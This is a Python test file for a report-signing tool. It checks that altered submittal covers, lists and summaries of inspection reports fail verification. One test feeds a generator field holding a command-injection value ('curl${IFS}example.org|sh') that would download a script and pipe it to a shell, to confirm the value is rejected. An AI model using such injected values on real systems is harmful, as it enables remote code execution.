"""A submittal by a holder of a trusted certificate, whose list, cover or roll-up says what its originals do not.

Each is made with the tool's own parts, one of which is changed, and signed as any other.
"""

import dataclasses
import datetime as dt
import json
import shutil
from decimal import Decimal
from pathlib import Path

import pytest

from reportgen import __version__
from reportgen.issued import (
    Examined,
    inside_of,
    list_of,
    opened_envelope,
    read_list,
    render_examined,
    render_list,
)
from reportgen.pdf.signing import SignerBlock
from reportgen.pipeline import filing, verify
from reportgen.pipeline.building import made_with
from reportgen.pipeline.resubmitting import submittal_made_again
from reportgen.pipeline.workers import Spread
from reportgen.seal import load_identity
from reportgen.submittal import Source, Transmittal, submittal_of, write_submittal
from reportgen.verification import Reason
from reportgen.verification.verdict import step_of
from reportgen.words.told import said
from tests.command import run
from tests.demo_archive import PASSPHRASE, by_a_stranger, engineers_key, made_once, shared_archive

AT = dt.datetime(2026, 4, 1, 9, tzinfo=dt.UTC)


@pytest.fixture(scope="session")
def archive(tmp_path_factory):
    return shared_archive(tmp_path_factory)


@pytest.fixture(scope="session")
def sender(tmp_path_factory):
    return engineers_key(tmp_path_factory)


@pytest.fixture(scope="session")
def known(archive, tmp_path_factory) -> dict[Path, Examined]:
    """Three reports of a contract with a nonconformance left open and an area on hold, as they are examined."""

    def make(place):
        for number in ("010", "011", "012"):
            shutil.copy(archive.folder / "BF-03" / f"BF-03-IR-{number}.pdf", place)
        checks = filing.examination_checks([archive.root])
        return filing._verified(sorted(place.glob("*.pdf")), checks, Spread(2), lambda *_: None)[0]

    return made_once(tmp_path_factory, "three", make)


SENT = Transmittal(
    at=AT, signer=SignerBlock("P. Ashgrove", "project engineer", "Brackenholt Storage"), version=__version__,
    reference="S-1", made_with=made_with(),
)  # fmt: skip


def as_it_is(given):
    return given


def written(known, sender, out, *, content=as_it_is, listed=as_it_is, sent=SENT, examined=as_it_is, identity=None):
    """The submittal that a changed tool writes: ``content`` and ``listed`` change what it prints and lists."""
    printed, told = submittal_of(examined(list(known.values())), sent)
    told = render_list(listed(read_list(told)))
    sources = [Source(path, one.verification.sha256) for path, one in known.items()]
    signer = identity or load_identity(sender[0], PASSPHRASE)
    write_submittal(content(printed), told, sources, signer, out, proven=lambda _: None)
    return out


def step(path, known):
    """Step 10, by the examinations of the originals in the order of the list."""
    pdf = path.read_bytes()
    by_hash = {one.verification.sha256: one for one in known.values()}
    originals = [by_hash[inside.listed.sha256] for inside in inside_of(list_of(opened_envelope(pdf)).reports)]
    return submittal_made_again(pdf, tuple(map(render_examined, originals)))


def names(found):
    return found.status, {reason.name for reason in found.reasons}


def with_row(content, number, **change):
    rows = [dataclasses.replace(row, **(change if n == number else {})) for n, row in enumerate(content.reports)]
    return dataclasses.replace(content, reports=tuple(rows))


def released(content):
    areas = [dataclasses.replace(area, decision="release", open=(), contested=()) for area in content.areas]
    return dataclasses.replace(content, areas=tuple(areas))


def closed(content):
    log = [dataclasses.replace(row, status="closed") for row in content.nonconformances]
    return dataclasses.replace(content, nonconformances=tuple(log))


def smoothed(content):
    """The trends without the location that lies lowest."""
    one, *others = content.groups
    points = [dataclasses.replace(point, value=point.value + Decimal("0.1")) for point in one.points]
    return dataclasses.replace(content, groups=(dataclasses.replace(one, points=tuple(points)), *others))


OF_THE_PAGES = {
    "a report conforms that does not": lambda one: with_row(one, 0, verdict="conforms", areas=()),
    "a date": lambda one: with_row(one, 0, date="2026-01-01"),
    "a signer's name": lambda one: with_row(one, 0, signer="A. Nother"),
    "a verdict on a signature": lambda one: with_row(one, 0, signature="indeterminate", remarks=("NOT_DONE",)),
    "areas released that are on hold": released,
    "a nonconformance closed that is open": closed,
    "no nonconformance": lambda one: dataclasses.replace(one, nonconformances=()),
    "trends of other values": smoothed,
    "no trends": lambda one: dataclasses.replace(one, groups=()),
    "an index without one of the reports": lambda one: dataclasses.replace(one, reports=one.reports[1:]),
    "another contract": lambda one: dataclasses.replace(one, project="Another tank"),
    "remarks that the list does not hold": lambda one: dataclasses.replace(one, remarks="All areas are released."),
}


@pytest.mark.parametrize("change", OF_THE_PAGES.values(), ids=OF_THE_PAGES)
def test_pages_that_do_not_follow_from_the_originals_fail(known, sender, tmp_path, change):
    out = written(known, sender, tmp_path / "out.pdf", content=change)
    assert names(step(out, known)) == ("failed", {"PAGES_DIFFER"})


def row_changed(listed, **change):
    first, *others = listed.reports
    return dataclasses.replace(listed, reports=(dataclasses.replace(first, **change), *others))


OF_THE_LIST = {
    "a number": lambda one: row_changed(one, number="BF-03-IR-009"),
    "a revision": lambda one: row_changed(one, revision=1),
    "a date": lambda one: row_changed(one, date="2026-01-01"),
    "pages said to be copied": lambda one: row_changed(one, copied_pages=1),
    "another order": lambda one: dataclasses.replace(one, reports=one.reports[::-1]),
    "a doubt that there is not": lambda one: row_changed(one, doubts=("NO_DOUBT",)),
    "a doubt that the pages do not state": lambda one: row_changed(one, doubts=("NOT_DONE",)),
    "another reference": lambda one: dataclasses.replace(one, reference="S-2"),
    "another recipient": lambda one: dataclasses.replace(one, cover=dataclasses.replace(one.cover, recipient="X")),
    "a language that there is not": lambda one: dataclasses.replace(
        one, cover=dataclasses.replace(one.cover, language="xx")
    ),
    "another time": lambda one: dataclasses.replace(one, issued_at="2026-04-02T09:00:00Z"),
    "no time": lambda one: dataclasses.replace(one, issued_at="today"),
}


@pytest.mark.parametrize("change", OF_THE_LIST.values(), ids=OF_THE_LIST)
def test_a_list_that_does_not_follow_from_the_originals_fails(known, sender, tmp_path, change):
    out = written(known, sender, tmp_path / "out.pdf", listed=change)
    found = step(out, known)
    assert found.status == "failed"
    assert "PAGES_DIFFER" in {reason.name for reason in found.reasons}


def in_doubt(*which):
    """How its sender says that a genuine report is not proven."""

    def change(examined):
        doubts = step_of(5, [Reason("NO_CERTIFICATE_CHAIN_FOUND", "not trusted")])
        found = []
        for number, one in enumerate(examined):
            answer = one.verification
            signers = [dataclasses.replace(signer, doubts=("NO_CERTIFICATE_CHAIN_FOUND",)) for signer in answer.signers]
            doubtful = dataclasses.replace(answer.with_step(doubts), signers=tuple(signers))
            found.append(dataclasses.replace(one, verification=doubtful) if number in which else one)
        return found

    return change


def test_a_report_that_its_sender_calls_unproven_is_not_set_aside_by_that(known, sender, tmp_path):
    """The cover follows from what its sender says of the originals; that is not what is found here."""
    out = written(known, sender, tmp_path / "out.pdf", examined=in_doubt(1, 2))
    found = step(out, known)
    assert names(found) == ("indeterminate", {"COVER_DIFFERS"})
    sentence = found.reasons[0].sentence
    things = sentence.facts["things"]
    assert sentence == (
        f"as its originals are proven here, the cover would say otherwise of {'; '.join(things)}; "
        "ask its sender by which authorities they were judged"
    )
    compared = [one for one in things if one.code == "cover-thing"]
    assert {one.facts["what"].code for one in compared} & {"cover-area", "cover-nonconformance", "cover-report"}
    for one in compared:
        what, stated, proven = (one.facts[name] for name in ("what", "stated", "proven"))
        assert stated != proven
        assert one == f"{what} (the cover says: {stated}; proven here: {proven})"
    german = said(sentence, "de")
    assert german.startswith("so, wie ihre Originale hier bewiesen sind, würde das Deckblatt anderes sagen über ")
    assert "the " not in german


def test_a_sender_who_knows_nothing_of_the_signers_says_nothing_else(known, sender, tmp_path):
    """Control: all originals are proven to whoever verifies, none to whoever sent them, and the cover is the same."""
    out = written(known, sender, tmp_path / "out.pdf", examined=in_doubt(0, 1, 2))
    assert names(step(out, known)) == ("passed", set())


def test_the_cover_names_who_signs(known, sender, tmp_path):
    other = dataclasses.replace(SENT, signer=SignerBlock("I. Perk", "inspector", None))
    out = written(known, sender, tmp_path / "out.pdf", sent=other)
    found = step(out, known)
    assert names(found) == ("indeterminate", {"SIGNER_NOT_NAMED"})
    assert "the certificate names `P. Ashgrove`, not `I. Perk`" in found.reasons[0].sentence


def test_the_cover_states_the_time_of_its_signature(known, sender, tmp_path):
    def earlier(content):
        return dataclasses.replace(content, at=AT - dt.timedelta(days=1))

    out = written(known, sender, tmp_path / "out.pdf", sent=dataclasses.replace(SENT, at=AT - dt.timedelta(days=1)))
    assert names(step(out, known)) == ("passed", set())
    out = written(known, sender, tmp_path / "other.pdf", content=earlier)
    assert names(step(out, known)) == ("failed", {"PAGES_DIFFER", "TIMES_DISAGREE"})


def test_another_release_and_other_libraries_are_no_fault_of_the_file(known, sender, tmp_path):
    def by(**change):
        return lambda one: dataclasses.replace(one, **change)

    command = written(
        known, sender, tmp_path / "c.pdf", listed=by(generator="reportgen 0.2.0;curl${IFS}example.org|sh")
    )
    (said_of,) = step(command, known).details
    assert said_of == "submittal.json does not name a release of `reportgen` as what made it"
    later = written(known, sender, tmp_path / "later.pdf", listed=by(generator="reportgen 99.0"))
    assert step(later, known).status == "not done"
    assert "pip install reportgen==99.0" in step(later, known).details[0]
    sent = dataclasses.replace(SENT, made_with={"reportlab": "1.0"})
    others = written(known, sender, tmp_path / "others.pdf", sent=sent)
    assert names(step(others, known)) == ("passed", set()), "they came out the same"
    moved = written(known, sender, tmp_path / "moved.pdf", sent=sent, content=released)
    assert step(moved, known).status == "not done"
    assert "was made with reportlab 1.0" in step(moved, known).details[0]


def test_a_list_of_a_later_format_is_left_open_and_named(known, sender, tmp_path):
    def by(**change):
        return lambda one: dataclasses.replace(one, **change)

    later = written(known, sender, tmp_path / "later.pdf", listed=by(format=2))
    said = "format 2 of submittal.json is not known to reportgen 0.1.0: use a later release"
    assert (step(later, known).status, step(later, known).details) == ("not done", (said,))
    answer = verify(later, trust=[sender[1]], quick=False)
    assert (answer.overall, said in [one.sentence for one in answer.reasons]) == ("indeterminate", True)


@pytest.mark.parametrize("more", [{"note": "The owner has accepted it."}, {"zlib": "accepted by the owner"}])
def test_no_sentence_stands_where_versions_do(known, sender, tmp_path, more):
    sent = dataclasses.replace(SENT, made_with={**made_with(), **more})
    assert names(step(written(known, sender, tmp_path / "said.pdf", sent=sent), known)) == ("failed", {"PAGES_DIFFER"})


def test_the_verdict_is_that_of_verify_and_of_audit(known, archive, sender, tmp_path):
    """Genuine, with released areas, and without making pages again."""
    trust = [archive.root, sender[1]]
    genuine = written(known, sender, tmp_path / "genuine.pdf")
    forged = written(known, sender, tmp_path / "forged.pdf", content=lambda one: released(closed(one)))
    answer = verify(genuine, trust=trust)
    assert answer.overall == "passed", answer.reasons
    assert answer.steps[9].details[0].endswith("bytes of pages and originals, the same again")
    answer = verify(forged, trust=trust)
    assert (answer.overall, {reason.name for reason in answer.reasons}) == ("failed", {"PAGES_DIFFER"})
    assert {reason.name for reason in verify(genuine, trust=trust, quick=True).reasons} == {"NOT_REBUILT"}
    said = run("audit", tmp_path, "--trust", trust[0], "--trust", trust[1], "--json").stdout
    (wrong,) = json.loads(said)["files_not_passed"]
    assert (wrong["file"], wrong["overall"], [one["name"] for one in wrong["reasons"]]) == (
        "forged.pdf", "failed", ["PAGES_DIFFER"],
    )  # fmt: skip


def test_what_cannot_be_made_again_is_not_sent(known, archive, sender, tmp_path, monkeypatch):
    from reportgen.errors import MachineError

    def kindly(*given):
        content, listed = submittal_of(*given)
        return released(content), listed

    monkeypatch.setattr("reportgen.submittal.submittal_of", kindly)
    out = tmp_path / "out.pdf"
    with pytest.raises(MachineError, match=r"does not verify \(PAGES_DIFFER"):
        filing.submittal(
            list(known),
            load_identity(sender[0], PASSPHRASE),
            out,
            trust=[archive.root],
            sent=filing.Sent(role="project engineer"),
        )
    assert not out.exists()


def test_a_strangers_report_among_them_is_sent_and_verified(known, archive, sender, tmp_path):
    """Control: what is set aside as unproven is so for the sender and for whoever verifies."""
    stranger = by_a_stranger(tmp_path, "BF-03", [(11, 9)])[0]
    out = tmp_path / "out.pdf"
    filing.submittal(
        [*known, stranger],
        load_identity(sender[0], PASSPHRASE),
        out,
        trust=[archive.root],
        sent=filing.Sent(role="project engineer"),
    )
    answer = verify(out, trust=[archive.root, sender[1]])
    assert answer.overall == "indeterminate"
    assert answer.steps[9].status == "passed"
